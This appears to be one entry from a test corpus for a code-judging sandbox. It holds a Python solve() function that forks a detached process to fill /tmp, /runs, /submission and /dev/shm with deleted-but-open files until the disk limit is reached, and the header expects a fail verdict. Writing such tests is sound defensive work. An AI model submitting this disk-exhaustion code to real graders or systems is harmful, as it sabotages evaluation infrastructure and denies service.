# ID: 270
# SLUG: no-room
# CATEGORY: files
# ATTACK: fills every writable folder to the last byte, with files that are deleted but open,
#     holes and copies
# VULNERABLE JUDGE: the judge cannot write what it needs, and that is our fault
# MUST HAPPEN HERE: the disk limit is reached: a failed test
# EXPECT-VERDICT: fail   (never pass)
import os
import time

if os.environ.get("ATTACK_CORPUS_IN_SANDBOX") != "1" and (
    os.geteuid() == 0 or not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"))
):
    raise RuntimeError("attack corpus: refusing to run as root or outside a container")


def solve(x):
    if os.fork() == 0:
        os.setsid()
        kept = []
        for place in ("/tmp", "/runs", "/submission", "/dev/shm"):
            try:
                file = open(f"{place}/full", "wb", buffering=0)
                kept.append(file)
                os.unlink(file.name)
                os.posix_fallocate(file.fileno(), 0, 1 << 20)
                for _ in range(2_000):
                    file.write(b"x" * 65_536)
            except OSError:
                pass
        time.sleep(20)
        os._exit(0)
    time.sleep(0.2)
    return "wrong-answer"
